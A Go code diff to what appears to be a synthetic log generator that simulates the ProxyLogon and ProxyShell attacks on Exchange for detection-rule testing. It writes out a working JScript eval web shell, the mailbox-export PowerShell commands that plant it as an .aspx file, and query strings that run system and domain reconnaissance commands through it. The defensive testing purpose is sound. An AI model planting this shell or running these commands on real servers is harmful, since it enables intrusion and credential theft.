@@ -294,18 +294,21 @@ func (g *gen) proxyLogonFull(t int64) {
 		rel, n := g.put(g.streams[stOAB], t, g.oabLine(t, "Warning", "Download failed and temporary file '"+shellPath+"' needs to be removed."))
 		g.expect(rel, n, ruleOABPath, persist, "")
 	})
+	g.plantOABShell(t, shell, script)
 
 	// 7: use the shell: a GET to check it, then commands by POST.
 	t += g.jitter(5*minute, 40*minute)
 	r = g.hit(t, ip, ua, "GET", "/owa/auth/"+shell, "", pNone)
-	g.send(r.expect(logFE, ruleShellAspx, persist))
+	g.send(r.expect(logFE, ruleShellAspx, persist).expect(logFE, ruleShellAnswered, execute))
 	for i := range 3 + g.rng.IntN(4) {
 		t += g.jitter(30*second, 8*hour)
 		r = g.hit(t, ip, uaAntSword, "POST", "/owa/auth/"+shell, "", pNone)
 		r.respBytes = 2200 + g.rng.IntN(9000)
-		g.send(r.expect(logFE, ruleShellAspx, execute).expect(logFE, ruleVolexityUA, attempt))
+		g.send(r.expect(logFE, ruleShellAspx, execute).expect(logFE, ruleVolexityUA, attempt).expect(logFE, ruleShellAnswered, execute))
 		g.chopperCommand(t+g.jitter(50, 900), i)
 	}
+	// then, through the shell, LSASS dumped and data staged
+	g.plantLoot(t + 20*minute)
 	g.umExploitAttempt(g.jitter(g.start+hour, t0-hour))
 }
 
@@ -530,6 +533,8 @@ func (g *gen) proxyShell(t int64) {
 	}
 	cmd("New-ManagementRoleAssignment", "-Role 'Mailbox Import Export' -User '"+victim+"'", ruleImportRole)
 	cmd("New-MailboxExportRequest", "-Mailbox '"+victim+"' -IncludeFolders '#Drafts#' -ContentFilter \"Subject -eq '"+subject+"'\" -FilePath '\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\"+subject+".aspx'", ruleExport)
+	// the export writes the PST, script in clear, under the .aspx name
+	g.plantPSTShell(t+17*second, subject, `<script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>`)
 	t += g.jitter(30*second, 3*minute)
 	cmd("Get-MailboxExportRequest", "-Mailbox '"+victim+"'", "")
 	cmd("Remove-MailboxExportRequest", "-Identity '"+victim+"\\MailboxExport' -Confirm 'False'", ruleRemoveExport)
@@ -538,12 +543,14 @@ func (g *gen) proxyShell(t int64) {
 	shell := "/aspnet_client/" + subject + ".aspx"
 	t += g.jitter(minute, 20*minute)
 	r = g.hit(t, ip, uaPyReq225, "GET", shell, "", pNone)
-	g.send(r.expect(logFE, ruleShellAspx, persist))
+	g.send(r.expect(logFE, ruleShellAspx, persist).expect(logFE, ruleShellAnswered, execute))
+	// days later an administrator runs the Safety Scanner, which finds it
+	g.plantMsert(t+30*hour, `C:\inetpub\wwwroot\aspnet_client\`+subject+".aspx")
 	for _, c := range []string{"whoami", "ipconfig+/all", "net+group+%22domain+admins%22+/domain"} {
 		t += g.jitter(10*second, 30*minute)
 		q := "exec_code=Response.Write(new+ActiveXObject(%22WScript.Shell%22).exec(%22cmd.exe+/c+" + c + "%22).StdOut.ReadAll());"
 		r = g.hit(t, ip, uaPyReq225, "GET", shell, q, pNone)
-		g.send(r.expect(logFE, ruleShellAspx, execute))
+		g.send(r.expect(logFE, ruleShellAspx, execute).expect(logFE, ruleShellAnswered, execute))
 		// WScript.Shell's Exec under the Default Web Site's pool
 		inner := strings.ReplaceAll(strings.ReplaceAll(c, "+", " "), "%22", `"`)
 		g.proc(t+g.jitter(30, 600), imgCmd, "cmd.exe /c "+inner, imgW3wp, w3wpCmdline("DefaultAppPool"), `NT AUTHORITY\SYSTEM`,
